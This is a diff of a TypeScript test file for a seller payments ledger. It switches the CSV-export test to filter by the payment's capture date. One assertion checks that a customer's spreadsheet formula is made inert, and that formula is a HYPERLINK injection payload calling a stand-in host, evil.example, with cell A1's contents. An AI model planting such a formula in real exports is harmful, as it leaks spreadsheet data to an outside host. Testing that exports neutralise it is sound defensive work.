@@ -4,7 +4,6 @@ import { fillCart, payAndConfirm, startCheckout } from "../support/payments";
 import { newCustomer } from "../support/security-fixtures";
 import { type Session, bearer, loginViaApi } from "../support/session";
 import { todayInIndia } from "../../worker/domain/bookings/transitions";
-import { testToday } from "../support/clock";
 import { type TestWorker, startWorker } from "../support/worker";
 
 // Issue 15: the seller's payments ledger. Each seller sees their own share of a checkout and the refunds of it,
@@ -95,9 +94,6 @@ const csvOf = async (as: { cookie: string }, query = "") => {
   // Response.text() would drop the byte order mark this test looks for.
   return { res, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
 };
-
-/** Today in India, as the filters take it. */
-const today = testToday;
 
 describe("each seller's share of one checkout", () => {
   it("shows seller A only A's trip and seller B only B's, with the amount each was paid", async () => {
@@ -276,7 +272,10 @@ describe("the CSV", () => {
   });
 
   it("makes a customer's formula inert: prefixed with ' and its quotes doubled", async () => {
-    const { text } = await csvOf(sellerA, `?from=${today()}&to=${today()}`);
+    // The day the payment was captured (before midnight, if the clock crossed one since).
+    const captured = await w.d1.prepare("SELECT captured_at AS at FROM payments WHERE id = ?").bind(paid.paymentId).first<{ at: string }>();
+    const day = dayInIndia(captured?.at ?? "");
+    const { text } = await csvOf(sellerA, `?from=${day}&to=${day}`);
     const row = text.split("\r\n").find((line) => line.includes("Goa Beach Escape"));
     expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",`);
     expect(row).toMatch(new RegExp(`,${(paid.a.total / 100).toFixed(2)},"Received",`));
